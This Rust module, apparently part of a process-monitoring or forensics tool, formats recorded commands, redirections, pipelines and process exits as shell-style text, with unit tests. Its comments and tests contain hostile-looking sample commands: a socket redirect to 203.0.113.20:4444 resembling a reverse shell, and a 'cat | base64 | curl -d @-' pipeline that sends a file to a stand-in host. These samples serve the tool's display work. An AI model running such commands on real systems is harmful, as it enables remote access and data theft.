//! Commands as they would be typed, and how their processes ended.

use event::names::signal_name;

use super::{MAX_TEXT_BYTES, clip, error, plural, quoted};
use crate::model::{
    Command, How, Origin, Pipeline, Process, Recorded, Redirect, Target, Timeline, User,
};

/// Members of a pipeline that a line shows at most.
const MAX_MEMBERS: usize = 32;

/// The command and its arguments, quoted so that they can be pasted, with about `max_bytes` of them
/// in all. A program whose arguments are not known reads `[name]`.
pub fn line(command: &Command, max_bytes: usize) -> String {
    if command.argv.is_empty() {
        return format!("[{}]", clip(known_name(command), MAX_TEXT_BYTES));
    }
    if let [title, rest @ ..] = command.argv.as_slice()
        && is_title(title)
        && rest.iter().all(Recorded::is_empty)
    {
        return clip(title, max_bytes);
    }
    let mut line = String::new();
    let mut left_bytes = max_bytes;
    for (at, argument) in command.argv.iter().enumerate() {
        if left_bytes == 0 {
            let more = (command.argv.len() - at) as u64;
            line.push_str(&format!(" … ({})", plural(more, "more argument", "more arguments")));
            break;
        }
        if at > 0 {
            line.push(' ');
        }
        line.push_str(&quoted(argument, left_bytes));
        left_bytes = left_bytes.saturating_sub(argument.bytes().len() + 1);
    }
    line
}

/// Whether a program put words in the place of its arguments: `nginx: worker process`.
fn is_title(argument: &Recorded) -> bool {
    let mut words = argument.bytes().splitn(2, |&b| b == b' ');
    words.next().is_some_and(|name| name.ends_with(b":")) && words.next().is_some()
}

fn known_name(command: &Command) -> &Recorded {
    if command.comm.is_empty() { &command.exe } else { &command.comm }
}

/// The command and where its standard streams lead: `sort < in > out 2>&1`; and why it could not
/// be run, if so.
pub fn with_redirects(command: &Command, max_bytes: usize) -> String {
    let mut text = line(command, max_bytes);
    for redirect in command.redirects.iter().filter_map(redirect) {
        text.push(' ');
        text.push_str(&redirect);
    }
    if let Origin::Failed { errno } = command.origin {
        text.push_str(&format!("  ✗ {}", error(errno)));
    }
    text
}

/// A redirection: `> f`, `2>> f`, `2>&1`, `<> 203.0.113.20:4444`. None for a pipe, which its
/// pipeline shows.
pub fn redirect(redirect: &Redirect) -> Option<String> {
    let fd = redirect.fd;
    let path = |sign: &str, usual_fd: i64, to| match fd == usual_fd {
        true => format!("{sign} {}", quoted(to, MAX_TEXT_BYTES)),
        false => format!("{fd}{sign} {}", quoted(to, MAX_TEXT_BYTES)),
    };
    match &redirect.to {
        Target::Read(from) => Some(path("<", 0, from)),
        Target::Write(to) => Some(path(">", 1, to)),
        Target::Append(to) => Some(path(">>", 1, to)),
        Target::Socket(to) => Some(path("<>", 0, to)),
        Target::SameAs(other) => Some(format!("{fd}>&{other}")),
        Target::Pipe => None,
    }
}

/// A whole pipeline: `cat x | base64 | curl …`.
pub fn pipeline(timeline: &Timeline, pipeline: &Pipeline, max_bytes: usize) -> String {
    let member = |&id| match timeline.process(id) {
        Some(process) if process.is_fork() => copy(process),
        Some(Process { commands, .. }) => {
            commands.last().map_or_else(String::new, |command| with_redirects(command, max_bytes))
        }
        None => "?".to_owned(),
    };
    let mut text = pipeline.members.iter().take(MAX_MEMBERS).map(member).collect::<Vec<_>>();
    if pipeline.members.len() > MAX_MEMBERS {
        text.push("…".to_owned());
    }
    text.join(" | ")
}

/// A process that never ran a program of its own, as a shell has for its own commands: `(bash)`.
pub fn copy(process: &Process) -> String {
    format!("({})", process.command().map(|c| clip(known_name(c), 64)).unwrap_or_default())
}

/// Name and id of a process: `php-fpm[911]`.
pub fn name(process: &Process) -> String {
    let name = process.command().map_or_else(String::new, |c| clip(known_name(c), 64));
    format!("{name}[{}]", process.pid)
}

/// A user's name, or its number: `www-data`, `uid 1000`.
pub fn user(user: &User) -> String {
    match (user.name.is_empty(), user.uid) {
        (true, 0) => "root".to_owned(),
        (true, u32::MAX) => "nobody known".to_owned(),
        (true, uid) => format!("uid {uid}"),
        (false, _) => clip(&user.name, 64),
    }
}

/// How a process ended: `exit 0`, `killed by SIGKILL`, `running`.
pub fn exit(process: &Process) -> String {
    match process.end.map(|end| end.how) {
        None => "running".to_owned(),
        Some(How::Unknown) => "ended".to_owned(),
        Some(How::Exited { code }) => format!("exit {code}"),
        Some(How::Killed { signal, core }) => {
            let name = u8::try_from(signal).ok().and_then(signal_name);
            let name = name.map_or_else(|| format!("signal {signal}"), str::to_owned);
            format!("killed by {name}{}", if core { ", core dumped" } else { "" })
        }
    }
}

/// From a process's start to its end; `None` if one of both lies outside the window.
pub fn duration_ns(process: &Process) -> Option<u64> {
    Some(process.end?.at.ts_ns.saturating_sub(process.start?.ts_ns))
}

/// The working directory, if it says more than the root.
pub fn working_dir(command: &Command) -> Option<String> {
    let cwd = command.cwd.bytes();
    (!cwd.is_empty() && cwd != b"/").then(|| clip(&command.cwd, MAX_TEXT_BYTES))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{End, Moment, ProcessId, Relevance, SessionId};

    fn command(argv: &[&str]) -> Command {
        Command { argv: argv.iter().map(|&arg| arg.into()).collect(), ..Command::default() }
    }

    fn process(command: Command, how: Option<How>) -> Process {
        Process {
            pid: 7,
            vpid: None,
            parent: None,
            children: Vec::new(),
            session: SessionId(0),
            start: Some(Moment { ts_ns: 5, event: 1 }),
            end: how.map(|how| End { at: Moment { ts_ns: 9, event: 2 }, how }),
            commands: vec![command],
            files: Vec::new(),
            network: Vec::new(),
            privileges: Vec::new(),
            terminal: Vec::new(),
            alerts: Vec::new(),
            relevance: Relevance::default(),
            events: 0,
        }
    }

    #[test]
    fn a_command_reads_as_it_would_be_typed() {
        assert_eq!(line(&command(&["sh", "-c", "id; uname"]), 100), "sh -c 'id; uname'");
        assert_eq!(
            line(&command(&["echo", "aaaa", "b", "c"]), 7),
            "echo aa… (4 bytes) … (2 more arguments)"
        );
        assert_eq!(line(&command(&["echo", "a", "b"]), 7), "echo a … (1 more argument)");
        assert_eq!(line(&command(&["nginx: worker process"]), 100), "nginx: worker process");
        assert_eq!(line(&command(&["sshd: ada@pts/1", "", ""]), 100), "sshd: ada@pts/1");
        assert_eq!(line(&command(&["my tool"]), 100), "'my tool'");
        let unknown = Command { comm: "nginx".into(), ..Command::default() };
        assert_eq!(line(&unknown, 100), "[nginx]");
    }

    #[test]
    fn standard_streams_read_as_redirections() {
        let socket = Recorded::from("203.0.113.20:4444");
        let cases = [
            (0, Target::Read("in".into()), Some("< in")),
            (1, Target::Write("a b".into()), Some("> 'a b'")),
            (2, Target::Append("log".into()), Some("2>> log")),
            (2, Target::SameAs(1), Some("2>&1")),
            (0, Target::Socket(socket.clone()), Some("<> 203.0.113.20:4444")),
            (1, Target::Socket(socket), Some("1<> 203.0.113.20:4444")),
            (1, Target::Pipe, None),
        ];
        for (fd, to, want) in cases {
            assert_eq!(redirect(&Redirect { fd, to }).as_deref(), want);
        }
        let mut failed = command(&["nmap"]);
        failed.origin = Origin::Failed { errno: 2 };
        failed.redirects = vec![Redirect { fd: 1, to: Target::Write("out".into()) }];
        assert_eq!(with_redirects(&failed, 100), "nmap > out  ✗ not there");
    }

    #[test]
    fn a_pipeline_reads_as_one_command() {
        let mut timeline = Timeline::default();
        for argv in [&["cat", "x"][..], &["base64"], &["curl", "-d", "@-", "http://h"]] {
            timeline.processes.push(process(command(argv), None));
        }
        let members = vec![ProcessId(0), ProcessId(1), ProcessId(2), ProcessId(9)];
        let text = pipeline(&timeline, &Pipeline { members }, 100);
        assert_eq!(text, "cat x | base64 | curl -d @- http://h | ?");
    }

    #[test]
    fn ends_read_as_a_shell_says_them() {
        let killed = |signal, core| Some(How::Killed { signal, core });
        for (how, want) in [
            (None, "running"),
            (Some(How::Unknown), "ended"),
            (Some(How::Exited { code: 127 }), "exit 127"),
            (killed(9, false), "killed by SIGKILL"),
            (killed(11, true), "killed by SIGSEGV, core dumped"),
            (killed(300, false), "killed by signal 300"),
        ] {
            let process = process(command(&[]), how);
            assert_eq!(exit(&process), want);
            assert_eq!(duration_ns(&process), how.map(|_| 4));
        }
    }
}
